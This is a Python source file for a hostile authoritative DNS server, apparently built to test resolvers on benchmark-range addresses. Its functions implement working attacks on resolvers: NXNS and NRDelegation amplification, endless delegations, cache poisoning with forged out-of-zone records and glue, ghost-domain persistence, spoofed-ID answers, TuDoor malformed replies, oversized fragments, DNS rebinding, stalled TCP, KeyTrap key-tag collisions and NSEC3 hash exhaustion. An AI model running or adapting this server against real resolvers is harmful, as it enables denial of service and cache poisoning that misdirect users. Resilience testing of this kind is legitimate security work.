"""The attacker's name server: the zones evil.com, keytrap.com and hashes.com, each name of which does harm of its kind.

What a question below LABEL.evil.com is told decides the function that is called LABEL here. `remove` on standard input
makes the parent forget gone.ghost.evil.com, `keep` remember it.
"""
import base64
import hashlib
import heapq
import itertools
import selectors
import socket
import struct
import sys
import time
from dataclasses import dataclass, field

import signer
import wire

ZONE = "evil.com"
PARENT, CHILD, REFUSER = 1, 2, 3  # the last octet of its addresses, each with a duty of its own
V4, V6 = "198.18.9.{}", "2001:2:0:9::{}"
MUTE = "2001:2:0:9:1::"  # any address that begins with it
PULSE_S = 1.5  # held answers go out together so often
DATAGRAM_BYTES = 1232
IPV6_FREEBIND = 78
MUTE_MAX = 500  # connections that are held
TRAP_TAG, TRAP_KEYS = 4711, 24
ITERATIONS = 50  # as many as are still computed
FORGED = "203.0.113.66"  # an address that nobody good has


@dataclass
class Question:
    message: wire.Message
    duty: int

    def __post_init__(self):
        self.labels = self.message.qname.split(".")
        self.qname, self.qtype = self.message.qname, self.message.qtype


@dataclass
class Reply:
    rcode: int = wire.NOERROR
    answer: list = field(default_factory=list)
    authority: list = field(default_factory=list)
    additional: list = field(default_factory=list)
    flags: int = wire.AA
    id_change: int = 0
    nonsense: bool = False  # the right header and question, and then rubbish
    held: bool = False      # until the next pulse
    whole: bool = False     # however large, in one datagram

    def octets(self, message):
        sections = (self.answer, self.authority, [*self.additional, wire.EDNS])
        header = wire.HEADER.pack(message.id ^ self.id_change, wire.QR | self.flags | self.rcode, 1, *map(len, sections))
        if self.nonsense:
            return header + message.asked + b"\xee" * 40
        return header + message.asked + b"".join(b"".join(section) for section in sections)


TRUNCATED = Reply(flags=wire.AA | wire.TC)


def nothing(zone=ZONE):
    return Reply(authority=[wire.soa(zone)])


def referral(cut, servers, glue=()):
    """Delegates `cut`; a server for which there is glue has the addresses of that duty."""
    return Reply(flags=0, authority=[wire.record(cut, wire.NS, 60, wire.name(server)) for server in servers],
                 additional=[wire.address(server, form.format(duty)) for server, duty in glue for form in (V4, V6)])


def address_of(question, duty=PARENT):
    form = {wire.A: V4, wire.AAAA: V6}.get(question.qtype)
    return Reply(answer=[wire.address(question.qname, form.format(duty))]) if form else nothing()


def below(question, label):
    """The name directly below LABEL.evil.com, and that label's name."""
    zone = f"{label}.{ZONE}"
    return question.labels[-4], zone


# ---- one function an attack -------------------------------------------------------------------------------------------

def nxns(question):
    """Servers without end, all with names of a victim's."""
    first, zone = below(question, "nxns")
    return referral(f"{first}.{zone}", [f"{first}-{i}.short.org" for i in range(40)])


def nrd(question):
    """Servers without end that have addresses, where everything is refused."""
    first, zone = below(question, "nrd")
    return referral(f"{first}.{zone}", [f"{first}-{i}.refuser.{ZONE}" for i in range(150)])


def refuser(question):
    return address_of(question, REFUSER)


def endless(question):
    """Each server's name lies below two others whose servers' names ..."""
    first, zone = below(question, "endless")
    return referral(f"{first}.{zone}", [f"ns.{first}{side}.{zone}" for side in "ab"] if len(first) < 60 else [f"ns.{zone}"])


def down(question):
    """A cut at every label."""
    return referral(question.qname, [f"ns.{ZONE}"], [(f"ns.{ZONE}", PARENT)])


def camp(question):
    """Aliases of names with many labels, one a reply."""
    first, zone = below(question, "camp")
    number, _, turn = first.partition("-")
    if len(question.labels) < 12:
        return nothing()
    target = f"a.b.c.d.e.f.g.h.{number}-{int(turn or 0) + 1}.{zone}"
    return Reply(answer=[wire.record(question.qname, wire.CNAME, 60, wire.name(target))])


def promiscuous(question):
    """An answer, and beside it what would make the attacker a server of everybody's."""
    authority = [wire.record(zone, wire.NS, 86400, wire.name(f"ns.{ZONE}")) for zone in ("chain.org", "many.org", "org", "")]
    additional = [wire.address(owner, FORGED, 86400) for owner in ("www.signed.org", "www.new.chain.org", "ns1.alpha.net")]
    target = f"g{question.labels[0][1:]}.wild.chain.org"  # the next that the good client will ask for
    answer = [wire.record(question.qname, wire.CNAME, 60, wire.name(target)), wire.address(target, FORGED, 86400)]
    return Reply(answer=answer, authority=authority, additional=additional)


def ghost(question):
    """gone.ghost is delegated for a second and then no more; its own server would prolong that for ever."""
    cut, server = f"gone.ghost.{ZONE}", f"ns.gone.ghost.{ZONE}"
    if question.duty == CHILD:
        reply = address_of(question, CHILD)
        reply.authority = [wire.record(cut, wire.NS, 86400, wire.name(server))]
        reply.additional = [wire.address(server, form.format(CHILD), 86400) for form in (V4, V6)]
        return reply
    if State.removed:
        return Reply(wire.NXDOMAIN, authority=[wire.soa(ZONE)])
    reply = referral(cut, [server], [(server, CHILD)])
    reply.authority = [wire.record(cut, wire.NS, 1, wire.name(server))]
    return reply


def bomb(question):
    """Large, and all at the same moment."""
    return Reply(answer=[wire.record(question.qname, wire.TXT, 60, (b"\xff" + b"x" * 255) * 4)], held=True)


def misses(question):
    """Ten guesses at the id, each with another one's address, before the true answer."""
    answer = [wire.address(question.qname, FORGED)]
    return [*(Reply(answer=answer, id_change=1 + i) for i in range(10)), address_of(question)]


def fragments(question):
    """More than any frame holds, in one datagram."""
    return Reply(answer=[wire.record(question.qname, wire.TXT, 60, (b"\xff" + b"x" * 255) * 12)], whole=True)


def truncated(question):
    return TRUNCATED


def tudoor(question):
    """Nonsense with all the right marks, then the true answer."""
    return [Reply(nonsense=True), address_of(question)]


def rebind(question):
    """Addresses inside of the house."""
    return Reply(answer=[wire.address(question.qname, text) for text in ("192.168.1.1", "10.0.0.1", "127.0.0.1")])


def slow(question):
    """No answer ever."""
    return []


def silent(question):
    """Each name is a zone with a server of its own where nobody is, so that nothing is learnt for the next."""
    first, zone = below(question, "silent")
    server = f"ns.{first}.{zone}"
    reply = referral(f"{first}.{zone}", [server])
    reply.additional = [wire.address(server, f"2001:2:0:7::{int(first[1:]) + 1:x}")]
    return reply


def mute(question):
    """Each name is a zone with a server of its own that has its answers fetched over TCP, and says nothing there."""
    first, zone = below(question, "mute")
    server = f"ns.{first}.{zone}"
    reply = referral(f"{first}.{zone}", [server])
    reply.additional = [wire.address(server, f"{MUTE}{int(first[1:]) + 1:x}")]
    return reply


# ---- the signed ones --------------------------------------------------------------------------------------------------

class KeyTrap:
    """Keys without end of one tag, and signatures without end that might be theirs."""

    def __init__(self):
        self.zone = signer.Zone("keytrap.com")
        keys = [self.zone.key, *self.zone.keys_of_one_tag(TRAP_TAG, TRAP_KEYS)]
        self.keys = Reply(answer=self.zone.signed(self.zone.zone, wire.DNSKEY, 3600, keys))
        self.trap = [wire.at_question(wire.RRSIG, 60, rdata)
                     for rdata in self.zone.forged(f"any.{self.zone.zone}", wire.A, 60, TRAP_TAG, TRAP_KEYS)]

    def answer(self, question):
        if question.qname == self.zone.zone:
            return self.keys if question.qtype == wire.DNSKEY else nothing(self.zone.zone)
        return Reply(answer=[wire.address(question.qname, FORGED), *self.trap])


class Hashes:
    """Absent names with as many labels as there is room for, to be hashed one by one (RFC 5155, section 8.3)."""

    def __init__(self):
        self.zone = signer.Zone("hashes.com")
        apex, salt = self.zone.zone, b"lottery!"
        digest = hashlib.sha1(wire.name(apex) + salt).digest()
        for _ in range(ITERATIONS):
            digest = hashlib.sha1(digest + salt).digest()
        # One record from the apex to itself: it covers every other name; opt-out, so that nothing is made of it elsewhere.
        rdata = struct.pack("!BBHB", 1, 1, ITERATIONS, len(salt)) + salt + bytes([len(digest)]) + digest + bytes.fromhex("000722000000000290")
        owner = f"{base64.b32hexencode(digest).decode().lower()}.{apex}"
        soa = wire.name(f"ns.{apex}") + wire.name(f"hostmaster.{apex}") + struct.pack("!5I", 1, 7200, 3600, 1209600, 60)
        self.proof = self.zone.signed(apex, wire.SOA, 60, [soa]) + self.zone.signed(owner, wire.NSEC3, 60, [rdata])
        self.keys = Reply(answer=self.zone.signed(apex, wire.DNSKEY, 3600, [self.zone.key]))

    def answer(self, question):
        if question.qname == self.zone.zone and question.qtype == wire.DNSKEY:
            return self.keys
        if len(question.labels) < 60:  # so that the name is asked for as a whole
            return nothing(self.zone.zone)
        return Reply(wire.NXDOMAIN, authority=self.proof)


class State:
    removed = False  # what the parent knew
    signed = {}      # zones by their first label


def answer(question):
    """A reply, or a list of them to be sent one after the other."""
    if question.duty == REFUSER:
        return Reply(wire.REFUSED, flags=0)
    zone = State.signed.get(question.labels[-2] if len(question.labels) > 1 else "")
    if zone is not None:
        return zone.answer(question)
    if question.labels[0] == "ns" and question.duty == PARENT and len(question.labels) <= 4:
        return address_of(question)
    if len(question.labels) < 4 or question.labels[-2:] != ZONE.split("."):
        return nothing()
    return ATTACKS.get(question.labels[-3], lambda _: nothing())(question)


ATTACKS = {function.__name__: function
           for function in (nxns, nrd, refuser, endless, down, camp, promiscuous, ghost, bomb, misses, fragments, truncated,
                            tudoor, rebind, slow, silent, mute)}


# ---- sockets ----------------------------------------------------------------------------------------------------------

class Server:
    def __init__(self):
        self.selector, self.held, self.numbers = selectors.DefaultSelector(), [], itertools.count()
        for duty in (PARENT, CHILD, REFUSER):
            for family, text in ((socket.AF_INET, V4.format(duty)), (socket.AF_INET6, V6.format(duty))):
                self.listen(family, text, self.take_datagrams, self.accept, duty)
        self.mute = []
        self.listen(socket.AF_INET6, "::", self.truncate, self.hold, None)
        self.on(sys.stdin, self.obey, None)

    def listen(self, family, text, on_datagrams, on_connection, duty):
        datagrams = socket.socket(family, socket.SOCK_DGRAM)
        datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)  # one of them has any address
        datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        if family == socket.AF_INET6:
            datagrams.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            datagrams.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
            datagrams.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        datagrams.bind((text, 53))
        datagrams.setblocking(False)
        self.on(datagrams, on_datagrams, duty)
        listener = socket.create_server((text, 53), family=family, backlog=512, reuse_port=True)
        listener.setblocking(False)
        self.on(listener, on_connection, duty)

    def on(self, source, function, duty):
        self.selector.register(source, selectors.EVENT_READ, (function, duty))

    def run(self):
        while True:
            wait_s = max(0, self.held[0][0] - time.monotonic()) if self.held else None
            for key, _ in self.selector.select(wait_s):
                function, duty = key.data
                function(key.fileobj, duty)
            while self.held and self.held[0][0] <= time.monotonic():
                _, _, datagrams, octets, peer = heapq.heappop(self.held)
                send(datagrams, octets, peer)

    def obey(self, lines, _):
        word = lines.readline()
        if not word:
            sys.exit()
        State.removed = word == "remove\n"

    def take_datagrams(self, datagrams, duty):
        for _ in range(64):
            try:
                octets, peer = datagrams.recvfrom(4096)
            except BlockingIOError:
                return
            for reply, said in replies(octets, duty):
                if len(said) > DATAGRAM_BYTES and not reply.whole:
                    said = TRUNCATED.octets(wire.read(octets))
                if reply.held:
                    at = (time.monotonic() // PULSE_S + 1) * PULSE_S
                    heapq.heappush(self.held, (at, next(self.numbers), datagrams, said, peer))
                else:
                    send(datagrams, said, peer)

    def truncate(self, datagrams, _):
        octets, destination, _, peer = datagrams.recvmsg(4096, 256)
        datagrams.sendmsg([TRUNCATED.octets(wire.read(octets))], destination, 0, peer)

    def hold(self, listener, _):
        self.mute.append(listener.accept()[0])
        del self.mute[:-MUTE_MAX]

    def accept(self, listener, duty):
        conn = listener.accept()[0]
        conn.setblocking(False)
        self.on(conn, Stream(self).take, duty)


class Stream:
    """A connection: queries with their lengths before them."""

    def __init__(self, server):
        self.server, self.heard = server, b""

    def take(self, conn, duty):
        try:
            octets = conn.recv(65536)
        except OSError:
            octets = b""
        if not octets:
            self.server.selector.unregister(conn)
            conn.close()
            return
        self.heard += octets
        while len(self.heard) >= 2 and len(self.heard) >= (end := 2 + struct.unpack_from("!H", self.heard)[0]):
            for _, said in replies(self.heard[2:end], duty):
                send(conn, struct.pack("!H", len(said)) + said)
            self.heard = self.heard[end:]


def send(sock, octets, peer=None):
    """What there is no room for is lost, as on any network."""
    try:
        sock.sendto(octets, peer) if peer else sock.send(octets)
    except OSError:
        pass


def replies(octets, duty):
    """Each with its octets."""
    question = Question(wire.read(octets), duty)
    said = answer(question)
    return [(reply, reply.octets(question.message)) for reply in (said if isinstance(said, list) else [said])]


def main():
    State.signed = {"keytrap": KeyTrap(), "hashes": Hashes()}
    server = Server()
    print("ready", flush=True)
    server.run()


if __name__ == "__main__":
    main()
